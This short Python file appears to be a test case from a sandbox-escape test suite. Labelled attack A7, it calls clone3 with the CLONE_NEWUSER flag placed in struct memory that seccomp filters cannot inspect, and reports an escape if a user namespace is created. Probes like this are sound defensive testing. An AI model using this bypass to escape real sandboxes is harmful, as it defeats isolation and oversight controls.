# expect: ok
# attack: A7 hides the namespace flag in the memory that clone3 reads, where no filter can look
# weaken: seccomp,user_namespaces
import ctypes
import os

import attack

arguments = (ctypes.c_uint64 * 11)()
arguments[0] = 0x10000000  # CLONE_NEWUSER
arguments[4] = 17          # SIGCHLD
result, error = attack.syscall("clone3", arguments, ctypes.sizeof(arguments))
if result == 0:
    os._exit(0)
if result > 0:
    os.waitpid(result, 0)
attack.escaped_if(result > 0, f"errno {error}")
